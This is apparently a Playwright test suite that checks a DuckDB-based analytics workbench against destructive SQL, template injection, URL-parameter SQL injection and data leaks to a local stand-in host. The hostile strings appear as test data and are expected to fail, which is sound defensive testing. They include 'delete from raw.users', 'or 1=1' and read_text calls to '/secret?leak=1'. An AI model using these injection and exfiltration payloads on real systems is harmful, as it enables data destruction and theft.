import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from '@playwright/test';
import { WorkbenchPage } from '../pages/workbench';

const list = (name: string): string[] => JSON.parse(readFileSync(`${import.meta.dirname}/../../tests/guard/${name}.json`, 'utf8'));

/** A server of another origin, which answers everybody and notes what it hears. */
let foreign: Server;
let host: string;
const heard: string[] = [];

test.beforeAll(async () => {
  foreign = createServer((request, response) => {
    heard.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/csv' }).end('a,b\n1,2\n');
  });
  foreign.on('connection', () => heard.push('connection'));
  await new Promise<void>((resolve) => foreign.listen(0, resolve));
  host = `localhost:${(foreign.address() as AddressInfo).port}`;
});

test.beforeEach(() => {
  heard.length = 0;
});

test.afterAll(() => {
  foreign.close();
});

/** Rows and a hash of every table, what is attached and how the engine is set. */
function state(flow: WorkbenchPage) {
  return flow.page.evaluate(async () => {
    // What is learned in the background is written until then.
    await window.metricflow.learning();
    const tables = await window.metricflow.query(
      "select distinct schema_name || '.' || table_name as name from duckdb_tables() where database_name like 'metricflow_%' and schema_name <> 'rollups' order by 1",
    );
    const lines: string[] = [];
    for (const { name } of tables) {
      const [{ n, h }] = await window.metricflow.query(`select count(*) as n, cast(bit_xor(hash(t)) as varchar) as h from ${name} as t`);
      lines.push(`${name} ${n} ${h}`);
    }
    const databases = await window.metricflow.query('select database_name, readonly from duckdb_databases() order by 1');
    const settings = await window.metricflow.query('select name, value from duckdb_settings() order by 1');
    const others = await window.metricflow.query(
      'select (select count(*) from duckdb_sequences()) as sequences, (select count(*) from duckdb_types() where not internal) as types, ' +
        "(select count(*) from duckdb_functions() where not internal) as functions, (select count(*) from duckdb_secrets()) as secrets",
    );
    return JSON.stringify({ lines, databases, settings, others }, null, 1);
  });
}

/** Puts each statement to `query` and `arrow`; gives what each of them said. */
function ask(flow: WorkbenchPage, statements: string[]) {
  return flow.page.evaluate(async (statements) => {
    const answers: { sql: string; query: string; arrow: string }[] = [];
    const said = (asked: Promise<unknown>) => asked.then(() => 'passed', (error) => `refused: ${error.message.split('\n')[0]}`);
    for (const sql of statements) {
      answers.push({ sql, query: await said(window.metricflow.query(sql)), arrow: await said(window.metricflow.arrow(sql)) });
    }
    return answers;
  }, statements);
}

test('statements that write, reach out or end another are refused, and change nothing', async ({ page }) => {
  const flow = new WorkbenchPage(page);
  await flow.openTested('models/?preset=tiny&seed=5');
  const before = await state(flow);
  const fingerprint = await flow.fingerprint();
  const statements = list('refused').map((sql) => sql.replaceAll('{host}', host));
  expect(statements.length).toBeGreaterThanOrEqual(200);
  const answers = await ask(flow, statements);
  expect(answers.filter(({ query, arrow }) => !query.startsWith('refused') || !arrow.startsWith('refused'))).toEqual([]);
  expect(await state(flow)).toBe(before);
  expect(await flow.fingerprint()).toBe(fingerprint);
  expect(heard).toEqual([]);
});

test('statements that only read pass, with the columns and values of the engine', async ({ page }) => {
  const flow = new WorkbenchPage(page);
  await flow.openTested('models/?preset=tiny&seed=5');
  const answers = await ask(flow, list('reading'));
  expect(answers.length).toBeGreaterThanOrEqual(60);
  expect(answers.filter(({ query, arrow }) => query !== 'passed' || arrow !== 'passed')).toEqual([]);
  expect(await flow.query("select 'a''b' as x, 2 as y order by 1")).toEqual([{ x: "a'b", y: 2 }]);
  // A column of a name twice is still two columns.
  const twice = await page.evaluate(async () => new TextDecoder('latin1').decode(await window.metricflow.arrow('select 1 as aa, 2 as aa')));
  expect(twice).not.toContain('aa_1');
  // The engine points at the reader's own line.
  const error = await flow.query('select\n  nope\nfrom raw.users').catch(String);
  expect(error).toMatch(/LINE 2: +nope/);
});

/** Each as the text of a model, with the words that its failure is told by. */
const edits: [string, RegExp][] = [
  ['select 1 as a; delete from metricflow_1.raw.users where user_id < 100', /one select statement/],
  ['select 1 as x; drop table raw.users', /one select statement/],
  ['select 1 as a --\r; delete from raw.users', /one select statement/],
  ['select 1 as a$$ ; delete from raw.users; select 1 as a$$', /one select statement/],
  ["{{ 'select 1 as a; ' ~ 'delete from raw.users' }}", /one select statement/],
  ["{% for table in ['users', 'events'] %}select 1 as a; drop table raw.{{ table }};{% endfor %}", /one select statement/],
  ["{{ config(materialized='view') }}select 1 as a; delete from raw.users", /one select statement/],
  ["{{ config(post_hook='delete from raw.users') }}select 1 as a", /post_hook/],
  ["select * from read_text('http://HOST/secret?leak=1')", /disabled by configuration/],
  ["{{ config(materialized='view') }}select * from read_csv('http://HOST/x.csv')", /disabled by configuration/],
  ['select * from enable_logging()', /enable_logging/],
  ['{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}{% endfor %}select 1 as a', /too much work/],
];

test('an edited model is one select: what writes, reaches out or never ends fails alone', async ({ page }) => {
  const flow = new WorkbenchPage(page);
  await flow.openTested('models/?preset=tiny&seed=5&model=fct_signups&tab=sql');
  const raw = () => state(flow).then((text) => JSON.parse(text).lines.filter((line: string) => line.startsWith('raw.')));
  const before = await raw();
  const signups = await flow.count('marts.fct_signups');
  for (const [sql, words] of edits) {
    await flow.write(sql.replaceAll('HOST', host));
    const began = Date.now();
    await flow.runEdit();
    await expect(page.getByTestId('edit-failed'), sql).toContainText(words);
    if (/range/.test(sql)) expect(Date.now() - began).toBeLessThan(5_000);
    expect((await flow.status()).phase, sql).toBe('ready');
    expect(await flow.count('marts.fct_signups'), sql).toBe(signups);
  }
  expect(await raw()).toEqual(before);
  // A later run keeps no damage, and the model's own text stands again.
  await page.getByTestId('reset-edit').click();
  await flow.tested();
  expect(await raw()).toEqual(before);
  expect(heard).toEqual([]);
});

test('what the link says never becomes a statement of its own', async ({ page }) => {
  const flow = new WorkbenchPage(page);
  await flow.openTested('?preset=tiny&seed=5');
  const before = await state(flow);
  for (const value of ["'; delete from raw.users; --", "x' or 1=1 --", "pro'); drop table raw.users; --", `' union select content from read_text('http://${host}/x') --`]) {
    const keys = ['plan', 'country', 'channel', 'segment', 'model', 'test', 'panel', 'from', 'to', 'tab', 'find', 'range', 'compare'];
    await flow.goTo(`preset=tiny&seed=5&${keys.map((key) => `${key}=${encodeURIComponent(value)}`).join('&')}`);
    await flow.tested();
    await page.waitForTimeout(300);
  }
  expect(await state(flow)).toBe(before);
  expect(heard).toEqual([]);
});

test('no worker reaches another host', async ({ page }) => {
  const flow = new WorkbenchPage(page);
  await flow.openTested('?preset=tiny&seed=5');
  await page.evaluate(() => (window.metricflow as any).learning());
  const workers = page.workers();
  // Generation, warehouse; the learning worker may have ended with its last model.
  expect(workers.length).toBeGreaterThanOrEqual(2);
  for (const worker of workers) {
    expect(worker.url()).toMatch(/^blob:/);
    const reached = await worker.evaluate(
      (url) => Promise.race([fetch(url).then(() => 'reached', () => 'refused'), new Promise((resolve) => setTimeout(resolve, 5_000, 'silent'))]),
      `http://${host}/leak`,
    );
    expect(reached).toBe('refused');
    // Sent synchronously, as the engine reads files of other hosts.
    const read = await worker.evaluate((url) => {
      try {
        const request = new XMLHttpRequest();
        request.open('GET', url, false);
        request.send();
        return `reached ${request.status}`;
      } catch {
        return 'refused';
      }
    }, `http://${host}/leak`);
    expect(read).toBe('refused');
  }
  expect(heard).toEqual([]);
});
